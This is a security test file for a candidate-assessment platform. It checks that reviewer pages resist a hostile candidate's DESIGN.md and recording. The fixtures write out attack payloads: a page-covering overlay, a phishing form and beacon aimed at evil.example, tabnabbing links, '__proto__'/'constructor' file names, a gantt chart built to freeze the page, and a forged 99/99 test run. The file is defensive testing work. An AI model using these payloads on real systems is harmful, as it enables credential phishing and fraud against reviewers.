/**
 * Group 8, staff pages: a hostile candidate's DESIGN.md and recording against reviewers, in
 * Debian's Chromium against the real API (no runner: nothing here needs a verdict). Each case is
 * a finding of issue 17: spoofing the page, reverse tabnabbing, blanking it, freezing it, pages
 * without a Content-Security-Policy, an unbounded recording, and a forged test run read as fact.
 */
import type { EventFields, RecordedEvent } from '@assay/contract';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createApiClient, type StaffRequest } from '../support/api-client.js';
import { openPage, screenshot, startWebPlatform, unexpectedErrors } from '../support/browser.js';
import { candidateFlow } from '../support/candidate-flow.js';
import type { Platform } from '../support/platform.js';

/** A small cap for the test (the default is 250,000 events / 32 MiB). */
const CAP_EVENTS = 1_200;
const FOREIGN = 'evil.example';

let platform: Platform;
let browser: Browser;
let web: Awaited<ReturnType<typeof startWebPlatform>>;
let admin: StaffRequest;

beforeAll(async () => {
  web = await startWebPlatform({ withoutRunner: true, apiEnv: { ASSAY_RECORDING_MAX_EVENTS: String(CAP_EVENTS) } });
  ({ platform, browser } = web);
  admin = await createApiClient(platform.baseUrl).staff(platform.admin.email, platform.admin.password);
});
afterAll(() => web?.close());

/** A system-design attempt whose DESIGN.md is `design`, with `events` recorded. */
async function attemptWith(design: string, events: RecordedEvent[] = []) {
  const { candidate, invite } = await candidateFlow(platform.baseUrl, admin).invite('sharded-cache', ['typescript']);
  const started = await candidate('POST', '/api/candidate/start', { language: 'typescript' });
  expect(started.status).toBe(200);
  expect((await candidate('PUT', '/api/candidate/files', { files: [{ path: 'DESIGN.md', content: design }] })).status).toBe(200);
  if (events.length) expect((await candidate('POST', '/api/candidate/events', { events })).status).toBe(200);
  return { attemptId: started.body.attemptId as string, candidate, token: invite.token };
}

const numbered = (fields: EventFields[]): RecordedEvent[] => fields.map((f, seq) => ({ ...f, seq, t: seq * 1_000 }) as RecordedEvent);

/** Notes every Content-Security-Policy violation on the page's documents, from the first script on. */
const watchViolations = (page: Page) =>
  page.addInitScript(() => {
    const w = window as unknown as { violations: string[] };
    w.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
const violationsOf = (page: Page) => page.evaluate(() => (window as unknown as { violations: string[] }).violations);

/**
 * A signed-in staff page that notes every CSP violation, every request to another host, and the
 * longest stall of its main thread (a 50 ms interval that fires late).
 */
async function staffPage() {
  const opened = await openPage(browser);
  const { page } = opened;
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(platform.baseUrl) && !request.url().startsWith('data:') && !request.url().startsWith('blob:')) foreign.push(request.url());
  });
  await watchViolations(page);
  await page.addInitScript(() => {
    const w = window as unknown as { maxStallMs: number };
    w.maxStallMs = 0;
    let last = performance.now();
    setInterval(() => {
      const now = performance.now();
      w.maxStallMs = Math.max(w.maxStallMs, now - last - 50);
      last = now;
    }, 50);
  });
  await page.goto(`${platform.baseUrl}/login`);
  await page.getByLabel('Email').fill(platform.admin.email);
  await page.getByLabel('Password').fill(platform.admin.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL(/\/attempts$/);
  return { ...opened, foreign, violations: () => violationsOf(page) };
}

async function openTab(page: Page, attemptId: string, tab: 'Overview' | 'Code' | 'Replay' | 'Scorecard') {
  if (!page.url().endsWith(`/attempts/${attemptId}`)) await page.goto(`${platform.baseUrl}/attempts/${attemptId}`);
  await page.getByRole('tab', { name: tab }).click();
}

const designFrame = (page: Page) => page.getByRole('region', { name: "The candidate's DESIGN.md" });

describe('staff pages', () => {
  test('spoof: a DESIGN.md cannot restyle the page, draw over it, add a form or call another host', async () => {
    const design = [
      '# Design',
      '<style>.tabs { display: none } .badge { background: #2e7d32 !important; color: white !important }</style>',
      `<div style="position: fixed; inset: 0; z-index: 99999; background: white; font-size: 40px">100% passed · Strong yes</div>`,
      `<form action="https://${FOREIGN}/login" method="post"><p>Session expired, sign in</p><input name="password" type="password"><button>Sign in</button></form>`,
      `<img src="https://${FOREIGN}/beacon.png" alt="beacon">`,
      '<span class="badge passed">passed</span>',
    ].join('\n\n');
    const { attemptId } = await attemptWith(design);
    const { page, foreign, pageErrors, violations } = await staffPage();
    await openTab(page, attemptId, 'Code');
    const frame = designFrame(page);
    await frame.waitFor();
    expect(await frame.textContent()).toContain('Written by the candidate');
    expect(await frame.locator('style, form, input, button, [style], .badge').count()).toBe(0);
    expect(await frame.locator('img[src]').count()).toBe(0);
    // The app's tabs are visible and nothing is drawn over them.
    const tab = page.getByRole('tab', { name: 'Overview' });
    expect(await tab.isVisible()).toBe(true);
    const box = (await tab.boundingBox())!;
    expect(await page.evaluate(([x, y]) => document.elementFromPoint(x!, y!)?.closest('[role=tab]')?.textContent, [box.x + box.width / 2, box.y + box.height / 2])).toBe('Overview');
    await frame.scrollIntoViewIfNeeded();
    await screenshot(page, 'staff-spoof');
    expect(foreign).toEqual([]);
    expect(await violations()).toEqual([]);
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });

  test('tabnab: every link in a DESIGN.md opens a new tab with no opener, never a named target, even with mermaid loaded', async () => {
    const design = [
      '# Links',
      '```mermaid\ngraph TD\n  A[Client] --> B[Shard]\n```',
      `[docs](https://${FOREIGN}/docs)`,
      `<a href="https://${FOREIGN}/login" target="reviewer">the login</a>`,
      `<a href="https://${FOREIGN}/self" target="_self">self</a>`,
    ].join('\n\n');
    const { attemptId } = await attemptWith(design);
    const { page, pageErrors } = await staffPage();
    await openTab(page, attemptId, 'Code');
    await designFrame(page).getByTestId('diagram-frame').waitFor();
    // Once the diagram is drawn (mermaid loaded), render the document again.
    await expect.poll(async () => (await designFrame(page).getByTestId('diagram-frame').boundingBox())?.height ?? 0, { timeout: 30_000 }).toBeGreaterThan(100);
    await openTab(page, attemptId, 'Overview');
    await openTab(page, attemptId, 'Code');
    const links = await designFrame(page)
      .locator(`a[href*="${FOREIGN}"]`)
      .evaluateAll((anchors) => anchors.map((a) => ({ target: a.getAttribute('target'), rel: a.getAttribute('rel') })));
    expect(links).toHaveLength(3);
    for (const link of links) expect(link).toEqual({ target: '_blank', rel: 'noopener noreferrer' });
    // The diagram lives in a sandboxed frame with no same-origin access.
    expect(await designFrame(page).getByTestId('diagram-frame').getAttribute('sandbox')).toBe('allow-scripts');
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });

  test('blank page: a recording naming files outside the attempt is refused, and the verdict and scorecard stay reachable', async () => {
    const { attemptId, candidate } = await attemptWith('# Design\n');
    for (const forged of [{ type: 'paste', file: 'constructor', size: 3, lines: 1 }, { type: 'open', file: '__proto__' }] as EventFields[]) {
      const refused = await candidate('POST', '/api/candidate/events', { events: numbered([forged]) });
      expect(refused.status).toBe(400);
      expect(refused.text).toMatch(/not a file of this attempt/);
    }
    const { page, pageErrors } = await staffPage();
    await openTab(page, attemptId, 'Overview');
    await page.getByRole('heading', { name: 'Integrity' }).waitFor();
    await openTab(page, attemptId, 'Scorecard');
    await page.locator('fieldset.criterion').first().waitFor();
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });

  test('freeze: deeply nested quotes and a costly gantt chart leave the page responsive; the diagram is shown as its source', async () => {
    // With any excluded date, mermaid walks every task day by day: a few tasks of millions of days take tens of seconds.
    const gantt = `gantt\n  dateFormat YYYY-MM-DD\n  excludes 2000-01-03\n${['a', 'b', 'c', 'd'].map((t) => `  ${t} :2000-01-01, 3000000d\n`).join('')}`;
    const design = `# Design\n\n${'>'.repeat(3_000)} deep\n\n\`\`\`mermaid\n${gantt}\`\`\`\n\nThe end.\n`;
    const { attemptId } = await attemptWith(design);
    const { page, pageErrors } = await staffPage();
    await openTab(page, attemptId, 'Code');
    const frame = designFrame(page);
    await frame.waitFor();
    expect(await frame.textContent()).toContain('The end.');
    const source = frame.getByTestId('diagram-source');
    await source.waitFor({ timeout: 20_000 });
    expect(await source.textContent()).toMatch(/took longer than 5 s to draw/);
    expect(await page.evaluate(() => (window as unknown as { maxStallMs: number }).maxStallMs)).toBeLessThan(1_000);
    await frame.scrollIntoViewIfNeeded();
    await screenshot(page, 'staff-freeze');
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });

  test('headers: every page is served with the policy and runs under it with no violation', async () => {
    const design = '# Design\n\n```mermaid\ngraph TD\n  A --> B\n```\n';
    const { attemptId } = await attemptWith(design, numbered([{ type: 'snapshot', files: { 'DESIGN.md': design } }, { type: 'open', file: 'DESIGN.md' }]));
    const { page, pageErrors, violations } = await staffPage();
    const documents: Array<{ url: string; csp: string | undefined }> = [];
    page.on('response', (response) => {
      if (response.request().resourceType() === 'document') documents.push({ url: response.url(), csp: response.headers()['content-security-policy'] });
    });
    for (const path of ['/attempts', '/admin/challenges', '/admin/invites', '/admin/users', '/nowhere']) {
      await page.goto(`${platform.baseUrl}${path}`);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
    }
    await page.goto(`${platform.baseUrl}/admin/challenges/rate-limiter/preview`);
    await page.locator('.monaco-editor .view-lines').first().waitFor({ timeout: 60_000 });
    for (const tab of ['Overview', 'Code', 'Replay', 'Scorecard'] as const) {
      await openTab(page, attemptId, tab);
      await page.getByRole('tabpanel').getByRole('heading').first().waitFor({ timeout: 60_000 });
    }
    await openTab(page, attemptId, 'Code');
    await expect.poll(async () => (await designFrame(page).getByTestId('diagram-frame').boundingBox())?.height ?? 0, { timeout: 30_000 }).toBeGreaterThan(100);
    // A candidate's pages: the landing, then the workspace with Monaco and its workers.
    const { token } = await attemptWith('# Mine\n');
    const candidatePage = await openPage(browser);
    candidatePage.page.on('response', (response) => {
      if (response.request().resourceType() === 'document') documents.push({ url: response.url(), csp: response.headers()['content-security-policy'] });
    });
    await watchViolations(candidatePage.page);
    await candidatePage.page.goto(`${platform.baseUrl}/i/${token}`);
    await candidatePage.page.locator('.monaco-editor .view-lines').first().waitFor({ timeout: 60_000 });

    expect(documents.length).toBeGreaterThan(8);
    for (const { url, csp } of documents) {
      expect(csp, url).toContain("script-src 'self'");
      expect(csp, url).toMatch(/frame-ancestors '(none|self)'/);
    }
    expect(await violations()).toEqual([]);
    expect(await violationsOf(candidatePage.page)).toEqual([]);
    expect(unexpectedErrors([...pageErrors, ...candidatePage.pageErrors], [404])).toEqual([]);
  });

  test("recording cap: past the cap a batch gets 413 recording_full; the candidate's page says recording stopped and the reviewer is told", async () => {
    const { attemptId, candidate, token } = await attemptWith('# Design\n');
    const focus = (seq: number): RecordedEvent => ({ seq, t: seq, type: 'focus', focused: seq % 2 === 0 });
    for (let seq = 0; seq < CAP_EVENTS; seq += 500) {
      const batch = Array.from({ length: Math.min(500, CAP_EVENTS - seq) }, (_, i) => focus(seq + i));
      expect((await candidate('POST', '/api/candidate/events', { events: batch })).status).toBe(200);
    }
    const refused = await candidate('POST', '/api/candidate/events', { events: [focus(CAP_EVENTS)] });
    expect(refused.status).toBe(413);
    expect(refused.body.error.code).toBe('recording_full');

    // The candidate's workspace records its opening snapshot past the cap, and says recording stopped.
    const candidatePage = await openPage(browser);
    await candidatePage.page.goto(`${platform.baseUrl}/i/${token}`);
    await candidatePage.page.getByTestId('recording-full').waitFor({ timeout: 60_000 });
    expect(await candidatePage.page.getByTestId('recording-full').textContent()).toMatch(/Recording stopped: .*your work is still saved/);
    expect(unexpectedErrors(candidatePage.pageErrors, [413])).toEqual([]);

    const { page, pageErrors } = await staffPage();
    await openTab(page, attemptId, 'Overview');
    const server = page.getByRole('list', { name: 'Observed by the server' });
    await server.waitFor();
    expect(await server.textContent()).toMatch(/The recording reached its cap \(1,200 events or 32 MiB\)/);
    await openTab(page, attemptId, 'Replay');
    await page.getByRole('button', { name: 'Play' }).waitFor({ timeout: 60_000 });
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });

  test('forged run: a run the browser reports and the server never graded is shown as such, apart from what the server observed', async () => {
    const { attemptId } = await attemptWith(
      '# Design\n',
      numbered([
        { type: 'open', file: 'DESIGN.md' },
        { type: 'run', runId: 'run_forged', passed: 99, total: 99 },
      ]),
    );
    const { page, pageErrors } = await staffPage();
    await openTab(page, attemptId, 'Overview');
    const disagree = page.getByRole('list', { name: 'Where the two disagree' });
    await disagree.waitFor();
    expect(await disagree.textContent()).toMatch(/The browser reports 1 test run\(s\) the server never saw/);
    expect(await page.getByRole('list', { name: 'Observed by the server' }).textContent()).toContain('Never ran the visible tests.');
    // Runs are the server's to state: the forged one appears only where the two disagree.
    expect(await page.getByRole('list', { name: /Reported by the candidate's browser/ }).textContent()).not.toContain('Ran the visible tests');
    await screenshot(page, 'staff-forged-run');
    expect(unexpectedErrors(pageErrors)).toEqual([]);
  });
});
